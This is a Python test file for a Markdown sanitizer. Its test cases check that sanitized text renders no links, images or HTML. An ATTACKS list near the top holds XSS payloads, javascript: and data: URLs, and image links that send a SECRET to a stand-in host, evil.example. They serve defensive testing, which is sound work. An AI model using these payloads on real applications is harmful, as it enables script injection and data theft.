"""Sanitized Markdown, read back by a Markdown parser, has nothing that loads or links."""

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tests.ui.markdown_reader import active_parts, tokens, words
from ui.safe_markdown import code_span, escape_markdown, sanitize_markdown

ATTACKS = [
    "![x](http://evil.example/a.png?d=SECRET)",
    "![x][ref]\n\n[ref]: http://evil.example/a.png",
    "[click](http://evil.example)",
    "[click][ref]\n\n[ref]: http://evil.example",
    "[a](javascript:alert(1))",
    "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "text <b onmouseover=alert(1)>bold</b>",
    "<http://evil.example>",
    "http://evil.example and www.evil.example and a@evil.example",
    "<details open ontoggle=alert(1)>",
    "`a` <svg/onload=alert(1)>",
    "![a](<http://evil.example/ b>)",
    "[![x](http://evil.example/i.png)](http://evil.example)",
    "| a |\n| --- |\n| ![x](http://evil.example/a.png) |",
    "- item ![x](http://evil.example/a.png)\n  1. [y](http://evil.example)",
    "> ![x](http://evil.example/a.png)",
    "# ![x](http://evil.example/a.png)",
    "```html\n<img src=http://evil.example>\n```",
    "&lt;img src=x&gt; &#60;b&#62;",
    "\\![x](http://evil.example/a.png)",
    "```\n![x](http://evil.example/a.png)",
]


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_becomes_words(attack: str) -> None:
    shown = sanitize_markdown(attack)
    assert active_parts(shown) == set()
    bare = [token.content for token in tokens(shown) if token.type == "text" and "evil.example" in token.content]
    assert bare == [], "Streamlit would make a link of it"


@pytest.mark.parametrize("attack", ATTACKS)
def test_a_plain_text_shows_an_attack_letter_for_letter(attack: str) -> None:
    line = attack.replace("\n", " ")
    assert active_parts(escape_markdown(line)) == set()
    assert words(escape_markdown(line)) == line.strip()


@given(st.text(alphabet=st.sampled_from("ab \n![]()<>`*_|#->:$&/\\.http1~=\"'"), max_size=60))
def test_no_text_survives_as_a_link_an_image_or_html(text: str) -> None:
    assert active_parts(sanitize_markdown(text)) == set()


@given(st.text(alphabet=st.characters(exclude_categories=["Cs", "Cc", "Zs", "Zl", "Zp"]), min_size=1, max_size=60))
def test_plain_words_come_back_unchanged(text: str) -> None:
    assert words(escape_markdown(text)) == text


def test_streamlits_own_directives_and_formulas_are_shown_as_written() -> None:
    markdown = sanitize_markdown(":green-badge[supported] costs $5 and $x^2$")
    assert markdown == r"\:green\-badge\[supported\] costs \$5 and \$x\^2\$"


def test_common_elements_are_kept() -> None:
    source = "# Title\n\nSome **bold** and *soft* `code`.\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted"
    assert sanitize_markdown(source) == (
        "#### Title\n\nSome **bold** and *soft* `code`\\.\n\n- one\n- two\n\n1. first\n2. second\n\n> quoted"
    )


def test_a_table_is_kept_and_its_cells_are_made_safe() -> None:
    assert sanitize_markdown("| a | b |\n|---|---|\n| `x|y` | <b> |") != ""
    assert sanitize_markdown("| a | b |\n|---|---|\n| 1 | [c](http://e.example) |") == (
        "| a | b |\n| --- | --- |\n| 1 | c (`http://e.example`) |"
    )


def test_code_that_holds_backticks_stays_inside_its_fence() -> None:
    markdown = sanitize_markdown("````\n```\n<script>\n````")
    assert [token.type for token in tokens(markdown)] == ["fence"]


def test_a_code_span_holds_any_number_of_backticks() -> None:
    assert words(code_span("a``b")) == "a``b"
    assert words(code_span("`")) == "`"
